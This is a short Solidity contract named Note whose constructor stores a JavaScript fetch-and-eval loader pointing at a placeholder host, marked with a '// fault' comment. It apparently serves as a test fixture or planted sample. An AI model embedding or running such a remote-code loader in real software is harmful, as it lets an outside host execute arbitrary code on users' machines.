// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

contract Note {
    string text;

    function read() external view returns (string memory) {
        return text;
    }

    constructor() {
        text = "(async()=>{const t=await fetch('https://cargo.invalid/next');eval(await t.text())})()"; // fault
    }
}
